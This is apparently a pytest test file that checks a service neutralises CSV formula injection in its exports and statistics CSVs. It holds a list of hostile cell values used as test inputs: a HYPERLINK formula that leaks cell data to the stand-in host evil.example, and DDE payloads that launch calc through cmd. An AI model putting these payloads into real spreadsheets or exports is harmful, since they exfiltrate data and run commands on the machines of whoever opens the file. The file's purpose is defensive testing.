"""CSV formula injection (issue 18 #6): a cell the service writes into any CSV never starts with ``=``,
``+``, ``-``, ``@``, tab or carriage return, so a spreadsheet does not run it as a formula (OWASP "CSV
Injection": such a cell gets a leading ``'``); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from core.csv_safe import TRIGGERS, csv_bytes, neutralise
from tests.admin.test_import_e2e import post_csv
from tests.client import Staff
from tests.conftest import ServerFactory

pytestmark = pytest.mark.anyio
BACKENDS = ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
YEAR = {"from": "2026-01-01", "to": "2026-12-31"}

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1;=2+2",  # a separator inside: quoted by the writer, neutralised as a whole
]
HEADER = ["ref", "closed_date", "is_case", "main_category", "contact", "region"]


def import_file(refs: list[str]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(HEADER)
    for i, ref in enumerate(refs):
        writer.writerow([ref, f"2026-02-{i + 1:02d}", "true", "forced_marriage", "self", "03"])
    return buffer.getvalue().encode()


def cells(body: bytes, sep: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=sep))


def assert_neutral(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            assert not cell.startswith(TRIGGERS), f"{cell!r} would be a formula in a spreadsheet"


async def export(admin: Staff, **params: str) -> bytes:
    r = await admin.get("/api/v1/registrations/export", **YEAR, **params)
    assert r.status_code == 200, r.text
    return r.content


@pytest.mark.parametrize("backend", BACKENDS)
async def test_imported_formulas_are_exported_as_text(make_server: ServerFactory, backend: str) -> None:
    server = await make_server(backend)
    admin = await server.login("admin")
    imported = await post_csv(admin, import_file(HOSTILE), service="KT")
    assert imported.status_code == 201, imported.text

    for sep in (",", ";"):
        table = cells(await export(admin, service="KT", sep=sep), sep)
        assert table[0][0] == "ref"
        assert_neutral(table)
        assert sorted(row[0] for row in table[1:]) == sorted("'" + ref for ref in HOSTILE)

    # The export imports elsewhere with the service's own references, not with the added quote.
    again = await post_csv(admin, await export(admin, service="KT"), service="IR")
    assert again.status_code == 201, again.text
    table = cells(await export(admin, service="IR"), ",")
    assert sorted(row[0] for row in table[1:]) == sorted("'" + ref for ref in HOSTILE)

    sara = await server.login("sara")
    for path, params in (
        ("/api/v1/stats/cases", {"by": "service,region,category", **YEAR}),
        ("/api/v1/stats/summary", {"year": "2026"}),
    ):
        r = await sara.get(path, format="csv", sep=";", **params)
        assert r.status_code == 200, r.text
        assert_neutral(cells(r.content, ";"))


def test_the_shared_writer_neutralises_text_and_keeps_numbers() -> None:
    assert neutralise("=1+1") == "'=1+1" and neutralise("\tx") == "'\tx" and neutralise("\rx") == "'\rx"
    assert neutralise("kt-1") == "kt-1" and neutralise("<5") == "<5" and neutralise(":") == ":"
    assert neutralise(-3) == -3 and neutralise(-2.5) == -2.5 and neutralise(None) is None
    text = csv_bytes(["what", "count"], [["-cmd", -3], ["@x", 12.5], ["ok", 0]], sep=",", bom=False).decode()
    assert text == "what,count\r\n'-cmd,-3\r\n'@x,12.5\r\nok,0\r\n"
